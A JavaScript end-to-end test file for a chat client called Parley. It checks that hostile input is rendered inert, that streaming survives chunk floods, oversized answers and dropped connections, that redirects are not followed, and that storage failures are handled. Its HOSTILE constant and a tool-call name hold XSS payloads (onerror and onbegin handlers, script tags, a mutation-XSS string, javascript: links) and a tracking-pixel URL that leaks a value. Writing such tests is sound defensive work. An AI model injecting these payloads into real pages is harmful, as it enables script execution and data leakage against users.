// The rest of the adversarial suite (issue 16): hostile text in imported files
// and tool calls, a flood of chunks, a connection dropped mid-answer, and a
// browser whose storage is blocked or full. In each, nothing runs, the page
// stays usable, and nothing the user has is lost.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { saved, useApp } from './harness.mjs';

const KEY = 'sk-CANARY-e2e-adversarial-0123456789';
const app = useApp({ key: KEY });

const messageBox = (page) => page.getByRole('textbox', { name: 'Message', exact: true });
const lastAnswer = (page) => page.getByRole('article', { name: 'Assistant message' }).last();
const stopGone = (page) =>
  page.getByRole('button', { name: 'Stop', exact: true }).waitFor({ state: 'detached' });

/** Markup in the page's body that could run or fetch: event attributes, script, frames, images. */
function liveMarkup(page) {
  return page.evaluate(() => {
    const found = [];
    for (const el of document.body.querySelectorAll('*')) {
      const tag = el.tagName.toLowerCase();
      if (['script', 'iframe', 'object', 'embed', 'img', 'math'].includes(tag)) {
        found.push(tag);
      }
      for (const { name, value } of el.attributes) {
        if (name.startsWith('on')) found.push(`${tag}[${name}]`);
        if (/^\s*javascript:/i.test(value)) found.push(`${tag}[${name}=javascript:]`);
      }
    }
    return found;
  });
}

const HOSTILE = [
  '<img src=x onerror="window.__pwned=1">',
  '<svg><animate onbegin="window.__pwned=2" attributeName=x dur=1s>',
  '<script>window.__pwned=3</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=4">',
  '[click](javascript:window.__pwned=5)',
  '![tracker](https://tracker.example/pixel.png?c=secret)',
].join('\n\n');

describe('hostile text outside the answer', () => {
  it('an imported file and a streamed tool call, names and arguments included, run nothing', async () => {
    const page = await app.openConfigured();
    const requested = [];
    page.on('request', (r) => requested.push(r.url()));
    const name = 'lookup<img src=x onerror="window.__pwned=6">';
    const body = {
      model: 'gpt-4',
      stream: true,
      messages: [
        { role: 'system', content: `System. ${HOSTILE}` },
        { role: 'user', content: `User. ${HOSTILE}` },
        {
          role: 'assistant',
          content: null,
          tool_calls: [
            {
              id: 'call_1',
              type: 'function',
              function: { name, arguments: JSON.stringify({ q: HOSTILE }) },
            },
          ],
        },
        { role: 'tool', tool_call_id: 'call_1', content: `Result. ${HOSTILE}` },
        { role: 'assistant', content: `Imported answer. ${HOSTILE}\n\nImported end.` },
      ],
      tools: [
        {
          type: 'function',
          function: {
            name: 'lookup',
            description: HOSTILE,
            parameters: { type: 'object', properties: { q: { type: 'string' } } },
          },
        },
      ],
    };
    await page.getByLabel('Import', { exact: true }).setInputFiles({
      name: 'hostile.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(body)),
    });
    await page.getByText('Imported end.').waitFor();

    // The server answers with a tool call whose name and arguments are hostile too.
    const base = { id: 'chatcmpl-tool', object: 'chat.completion.chunk', model: 'gpt-4' };
    const call = (fn) => ({
      ...base,
      choices: [{ index: 0, delta: { tool_calls: [{ index: 0, function: fn }] } }],
    });
    app.api.enqueue({
      sse: [
        {
          ...base,
          choices: [
            {
              index: 0,
              delta: {
                role: 'assistant',
                tool_calls: [{ index: 0, id: 'call_2', type: 'function', function: { name } }],
              },
            },
          ],
        },
        call({ arguments: '{"q": "<img src=x one' }),
        call({ arguments: 'rror=\\"window.__pwned=7\\">"}' }),
        { ...base, choices: [{ index: 0, delta: {}, finish_reason: 'tool_calls' }] },
        'data: [DONE]\n\n',
      ],
    });
    await messageBox(page).fill('Call it');
    await messageBox(page).press('Control+Enter');
    await app.waitForChatRequests(1);
    await stopGone(page);
    await lastAnswer(page).getByText('window.__pwned=7', { exact: false }).first().waitFor();

    // The inspector and View code show the same text, inert.
    await page.getByRole('button', { name: 'Request inspector' }).click();
    await page.getByLabel('Next request body').waitFor();
    await page.getByRole('banner').getByRole('button', { name: 'View code' }).click();
    const code = page.getByRole('dialog', { name: /code/i });
    await code.getByRole('tabpanel').getByText('window.__pwned=7', { exact: false }).waitFor();

    assert.equal(await page.evaluate(() => window.__pwned), undefined, 'nothing ran');
    assert.deepEqual(await liveMarkup(page), []);
    assert.ok(!requested.some((u) => u.includes('tracker.example')), 'no remote image fetched');
    assert.ok(!(await page.content()).includes(KEY), 'the key is not in the page');
  });
});

describe('a hostile or broken stream', () => {
  it('3,000 chunks at about 1,000 a second: the page stays usable and every chunk lands', async () => {
    const page = await app.openConfigured();
    const base = { id: 'chatcmpl-flood', object: 'chat.completion.chunk', model: 'gpt-4' };
    const chunks = Array.from({ length: 3000 }, (_, i) => ({
      ...base,
      choices: [{ index: 0, delta: { content: i % 100 === 99 ? `\n\nmark ${i + 1}\n\n` : 'w ' } }],
    }));
    app.api.enqueue({
      sse: [
        ...chunks,
        { ...base, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] },
        'data: [DONE]\n\n',
      ],
      delayMs: 1,
    });
    await messageBox(page).fill('Flood me');
    await messageBox(page).press('Control+Enter');
    await lastAnswer(page).getByText('mark 100', { exact: true }).waitFor();
    // Typing while the flood comes in: every key lands in the box, in order.
    await messageBox(page).pressSequentially('typed during the flood', { delay: 0 });
    await stopGone(page);
    assert.equal(await messageBox(page).inputValue(), 'typed during the flood');
    await lastAnswer(page).getByText('mark 3000', { exact: true }).waitFor();
    const text = await lastAnswer(page).innerText();
    assert.equal(text.match(/\bw\b/g)?.length, 2970, 'every chunk landed once');
  });

  it('an answer past 5 MB is stopped with a message; the text so far is kept', async () => {
    const page = await app.openConfigured();
    const base = { id: 'chatcmpl-big', object: 'chat.completion.chunk', model: 'gpt-4' };
    // 128 KB pieces of short paragraphs: 41 of them pass 5 MB.
    const paragraph = `${'lorem ipsum '.repeat(160)}\n\n`;
    const piece = paragraph.repeat(Math.ceil(131072 / paragraph.length));
    const chunks = Array.from({ length: 41 }, (_, i) => ({
      ...base,
      choices: [{ index: 0, delta: { content: i === 0 ? `First piece.\n\n${piece}` : piece } }],
    }));
    app.api.enqueue({
      sse: [
        ...chunks,
        { ...base, choices: [{ index: 0, delta: { content: 'Never shown.' } }] },
        'data: [DONE]\n\n',
      ],
    });
    await messageBox(page).fill('Say everything');
    await messageBox(page).press('Control+Enter');
    await stopGone(page);
    const alert = lastAnswer(page).getByRole('alert');
    await alert.waitFor();
    assert.match(await alert.innerText(), /passed 5 MB, so Parley stopped reading it/);
    await lastAnswer(page).getByText('First piece.').waitFor();
    assert.equal(await lastAnswer(page).getByText('Never shown.').count(), 0);
    assert.equal(await messageBox(page).isEditable(), true);
  });

  it('a connection dropped mid-answer keeps the partial answer and says what happened', async () => {
    const page = await app.openConfigured();
    const base = { id: 'chatcmpl-cut', object: 'chat.completion.chunk', model: 'gpt-4' };
    app.api.enqueue({
      sse: ['The first half ', 'arrived before ', 'the line went dead.'].map((content) => ({
        ...base,
        choices: [{ index: 0, delta: { content } }],
      })),
      // The three pieces are on screen before the connection goes.
      holdAfter: 3,
      cut: true,
    });
    await messageBox(page).fill('Tell me something long');
    await messageBox(page).press('Control+Enter');
    await app.api.waitForHold();
    await lastAnswer(page).getByText('the line went dead.', { exact: false }).waitFor();
    app.api.release();
    await stopGone(page);
    const alert = lastAnswer(page).getByRole('alert');
    await alert.waitFor();
    assert.match(
      await alert.innerText(),
      /The connection to 127\.0\.0\.1:\d+ closed before the answer finished\. The text received so far is kept/,
    );
    assert.doesNotMatch(await alert.innerText(), /Cannot reach|CORS/);
    assert.match(
      await lastAnswer(page).innerText(),
      /The first half arrived before the line went dead\./,
    );
    // The partial answer is saved: it survives a reload.
    await saved(page);
    await page.reload();
    await lastAnswer(page).getByText('the line went dead.', { exact: false }).waitFor();
  });
});

describe('a redirect', () => {
  it('is not followed: one request, to the chosen origin, and the base URL is named as the fix', async () => {
    const page = await app.openConfigured();
    const elsewhere = `${app.api.url.replace('127.0.0.1', 'localhost')}/chat/completions`;
    app.api.enqueue({ body: '', status: 307, headers: { location: elsewhere } });
    await messageBox(page).fill('Follow me');
    await messageBox(page).press('Control+Enter');
    const alert = page.getByRole('alert').filter({ hasText: 'answered with a redirect' });
    await alert.waitFor();
    assert.match(await alert.innerText(), /Parley does not follow redirects/);
    await alert.getByRole('button', { name: 'Open settings' }).waitFor();
    assert.equal(app.chatRequests().length, 1, 'the redirect was not followed');
    assert.equal(await messageBox(page).inputValue(), 'Follow me', 'the question is kept');
  });
});

describe('storage that fails', () => {
  for (const [how, block] of [
    [
      'IndexedDB throws on first touch',
      () =>
        Object.defineProperty(window, 'indexedDB', {
          get() {
            throw new DOMException('Access to storage is denied.', 'SecurityError');
          },
        }),
    ],
    [
      'opening the database fails',
      () => {
        IDBFactory.prototype.open = function () {
          const request = {};
          setTimeout(() => {
            request.error = new DOMException('The database is blocked.', 'UnknownError');
            request.onerror?.(new Event('error'));
          });
          return request;
        };
      },
    ],
  ]) {
    it(`${how}: the page says nothing is saved, and works from memory`, async () => {
      const page = await app.openFresh();
      await page.addInitScript(block);
      await page.reload();
      await page.getByText('This browser does not allow storage here').waitFor();
      await app.fillFirstRun(page, { key: KEY });
      const sent = await app.ask(page, 'Anyone there?');
      assert.equal(sent.headers.authorization, `Bearer ${KEY}`);
      assert.equal(await page.getByRole('article', { name: 'User message' }).count(), 1);
      assert.deepEqual(app.profile.pageErrors, []);
    });
  }

  it('storage full mid-conversation: a banner says so, and the answer and the draft stay', async () => {
    const page = await app.openFresh();
    await page.addInitScript(() => {
      const put = IDBObjectStore.prototype.put;
      IDBObjectStore.prototype.put = function (...args) {
        if (window.__full)
          throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
        return put.apply(this, args);
      };
    });
    await page.reload();
    await app.fillFirstRun(page, { key: KEY });

    await page.evaluate(() => (window.__full = true));
    app.api.enqueue({ ownFixture: 'own_stream_hello' });
    await messageBox(page).fill('Will this be kept?');
    await messageBox(page).press('Control+Enter');
    await page.getByText('Browser storage is full').waitFor();
    await stopGone(page);
    await messageBox(page).fill('A draft typed after the disk filled');
    assert.equal(await page.getByRole('article', { name: 'User message' }).count(), 1);
    assert.ok((await lastAnswer(page).innerText()).length > 0);
    assert.equal(await messageBox(page).inputValue(), 'A draft typed after the disk filled');
    assert.deepEqual(app.profile.pageErrors, []);
  });
});
